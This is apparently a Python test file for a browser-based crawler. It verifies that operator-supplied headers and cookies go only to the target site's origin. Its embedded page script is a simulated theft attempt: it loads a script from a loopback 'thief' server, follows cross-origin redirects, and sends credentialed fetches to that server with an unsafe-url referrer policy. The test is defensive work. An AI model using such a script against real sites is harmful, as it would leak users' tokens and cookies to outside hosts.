"""What an operator gave a site (headers, cookies) reaches its own origin only, whatever its pages lead to."""

import asyncio
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler

from crawl_helpers import LoopbackSite, redirect, send

from crawler.addresses import allowance
from crawler.browser import Browser
from crawler.showing import Document, Limits, Rendered

Make = Callable[[], LoopbackSite]
SECRETS = {"Authorization": "Bearer s3cr3t", "X-Api-Key": "s3cr3t-key"}
COOKIES = {"sid": "s3cr3t-sid"}


def heard(site: LoopbackSite) -> str:
    """Everything that a server was told."""
    return repr(site.headers)


def open_to_all(body: bytes, kind: str = "text/plain") -> Callable[[BaseHTTPRequestHandler], None]:
    """An answer that any page may read, as an attacker's server gives it."""
    everybody = {"Access_Control_Allow_Origin": "*", "Access_Control_Allow_Headers": "*"}
    return lambda handler: send(handler, body, kind=kind, **everybody)


def test_no_script_carries_them_elsewhere(chromium: str, make_site: Make) -> None:
    site, thief, beside = make_site(), make_site(), make_site()
    away = f"http://localhost:{thief.port}"  # another host, as a browser sees it
    thief.pages = {
        "/x.js": open_to_all(b"", "text/javascript"),
        "/led": open_to_all(b"x"),
        "/sent": open_to_all(b"x"),
    }
    site.pages = {"/own": "its own words", "/out": redirect(f"{away}/led"), "/port": redirect(f"{beside.base}/led")}
    script = f"""
      const made = document.createElement('script'); made.src = '{away}/x.js';
      made.onload = async () => {{
        const all = ['/out', '/port', '{away}/sent', '{beside.base}/sent'];
        const sent = all.map((one) => fetch(one, {{mode: 'no-cors', credentials: 'include'}}));
        const own = await fetch('/own').then((answer) => answer.text());
        await Promise.allSettled(sent);
        document.body.append(own);
      }};
      document.body.append(made);
    """
    head = "<title>App</title><meta name=referrer content=unsafe-url>"
    page = f"<html><head>{head}</head><body><script>{script}</script></body></html>"
    document = Document(url=f"{site.base}/page?t=s3cr3t", body=page.encode(), headers=SECRETS, cookies=COOKIES)

    async def show() -> Rendered:
        allowed = frozenset(map(allowance, (site.place, beside.place, f"localhost:{thief.port}")))
        browser = Browser(chromium, allowed=allowed, limits=Limits(seconds=60))
        try:
            return await browser.render(document)
        finally:
            await browser.close()

    shown = asyncio.run(show())
    assert "its own words" in shown.html
    assert all(value in heard(site) for value in (*SECRETS.values(), *COOKIES.values()))
    assert set(thief.hits) == {"/x.js", "/led", "/sent"}
    assert "s3cr3t" not in heard(thief)
    assert "Referer" not in heard(thief)
    assert beside.hits == {}
